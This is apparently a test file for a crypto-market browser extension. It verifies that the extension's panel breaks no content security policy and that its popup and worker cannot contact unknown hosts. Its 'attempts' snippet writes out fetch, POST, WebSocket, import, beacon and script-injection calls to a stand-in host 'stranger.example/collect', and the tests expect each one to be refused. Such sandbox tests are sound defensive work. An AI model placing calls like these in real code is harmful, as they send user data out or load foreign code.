import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openBackstage, type Backstage } from './support/backstage.ts';
import type { ChromiumRun } from './support/chromium.ts';
import { openStage, type Stage } from './support/stage.ts';
import { until } from './support/until.ts';

let stage: Stage;
let run: ChromiumRun;
let backstage: Backstage;

beforeAll(async () => {
  stage = await openStage({ scenario: 'reference-day' });
  ({ run } = stage);
  backstage = await openBackstage(run);
});

afterAll(() => stage.close());

const pages = [
  'https://www.gate.com/trade/BTC_USDT',
  'https://www.binance.com/en/futures/BTCUSDT',
  'https://www.bybit.com/trade/usdt/BTCUSDT',
  'https://www.okx.com/trade-swap/btc-usdt-swap',
  'https://www.coindesk.com/markets/2026/02/12/slug',
  'https://cointelegraph.com/news/slug',
];

interface Violations {
  readonly __violations: { readonly count: number; readonly seen: readonly unknown[] };
}

describe('a page with the strictest policy and trusted types', () => {
  it.each(pages.flatMap(page => [page, `${page}?csp=strict`]))('shows the panel without one violation: %s', async url => {
    const { page, panel } = await run.open(url);
    const isArticle = /coindesk|cointelegraph/.test(url);
    await panel.waitFor(text => (isArticle ? /article of/ : /Liquidated 24h .*≥ \$\d/).test(text), 'figures');
    // Styles are in force, not only text in the tree.
    const look = await panel.read<string[]>(
      `const style = getComputedStyle(root.querySelector('.u')); return [style.position, style.width, style.borderTopLeftRadius]`,
    );
    expect(look).toEqual(['fixed', '320px', '12px']);
    const before = await panel.box('.u');
    await panel.click('[aria-label=More]');
    await panel.waitFor(text => isArticle || text.includes('All coins'), 'the open view');
    if (!isArticle) await panel.click('.scope button:nth-child(2)');
    await panel.click('[aria-label=Less]');
    await until('the compact view', () =>
      panel.read<true | undefined>(`return root.querySelector('.u.compact') ? true : undefined`),
    );
    // Dragging sets styles at every step.
    const grip = await panel.box('.grip');
    await page.mouse.move((grip?.x ?? 0) + 30, (grip?.y ?? 0) + 8);
    await page.mouse.down();
    await page.mouse.move((grip?.x ?? 0) + 90, (grip?.y ?? 0) - 120, { steps: 4 });
    await page.mouse.up();
    await until('another place', async () => {
      const now = await panel.box('.u');
      return now?.x === before?.x && now?.y === before?.y ? undefined : true;
    });
    const { count, seen } = await page.evaluate(() => (window as unknown as Violations).__violations);
    expect(seen).toEqual([]);
    expect(count).toBe(0);
    await backstage.run(
      'for (const key of Object.keys(await chrome.storage.local.get(null))) if (key.startsWith("place:")) await chrome.storage.local.remove(key)',
    );
    await page.close();
  });

  it('would tell of a violation', async () => {
    const { page } = await run.open(`${pages[0] ?? ''}?csp=strict`);
    await page.evaluate(() =>
      document.body.append(Object.assign(document.createElement('img'), { src: 'https://www.gate.com/favicon.ico' })),
    );
    await expect.poll(() => page.evaluate(() => (window as unknown as Violations).__violations.count)).toBeGreaterThan(0);
    await page.close();
  });
});

const attempts = `
  const outcome = {};
  const url = 'https://stranger.example/collect?what=figures';
  await fetch(url, { mode: 'no-cors' }).then(() => (outcome.fetch = 'left'), () => (outcome.fetch = 'refused'));
  await fetch(url, { method: 'POST', mode: 'no-cors', body: 'x', keepalive: true }).then(() => (outcome.post = 'left'), () => (outcome.post = 'refused'));
  outcome.socket = await new Promise(done => { try { const socket = new WebSocket('wss://stranger.example/collect'); socket.onopen = () => done('left'); socket.onerror = () => done('refused'); } catch { done('refused'); } });
  outcome.import = await import(url).then(() => 'left', () => 'refused');
  try { outcome.eval = eval('1 + 1') === 2 ? 'ran' : 'odd'; } catch { outcome.eval = 'refused'; }
  return outcome;`;
const refused = { fetch: 'refused', post: 'refused', socket: 'refused', import: 'refused', eval: 'refused' };

describe('the extension itself', () => {
  const toStrangers = () => stage.market.log.violations.filter(({ kind }) => kind === 'unknown-host');

  it('can ask no unknown host from one of its pages, and run no code that it did not bring', async () => {
    stage.market.log.clear();
    const popup = await run.popup();
    const outcome = await popup.evaluate(`(async () => { ${attempts} })()`);
    expect(outcome).toEqual(refused);
    const elements = await popup.evaluate(async () => {
      const load = (name: string, attribute: string) =>
        new Promise<string>(done => {
          const element = document.createElement(name);
          element.addEventListener('load', () => done('left'));
          element.addEventListener('error', () => done('refused'));
          element.setAttribute(attribute, 'https://stranger.example/file');
          document.body.append(element);
        });
      navigator.sendBeacon('https://stranger.example/beacon', 'x');
      return { image: await load('img', 'src'), script: await load('script', 'src') };
    });
    expect(elements).toEqual({ image: 'refused', script: 'refused' });
    expect(toStrangers()).toEqual([]);
    await popup.close();
  });

  it('can ask no unknown host from its worker either', async () => {
    stage.market.log.clear();
    const outcome = await run.worker().evaluate(`(async () => { ${attempts} })()`);
    expect(outcome).toEqual(refused);
    expect(toStrangers()).toEqual([]);
    // The same words reach a host that is in the list, so that it is the list that refuses.
    const known = await run
      .worker()
      .evaluate(`fetch('https://api.alternative.me/fng/?limit=2', { mode: 'no-cors' }).then(() => 'left', () => 'refused')`);
    expect(known).toBe('left');
  });
});
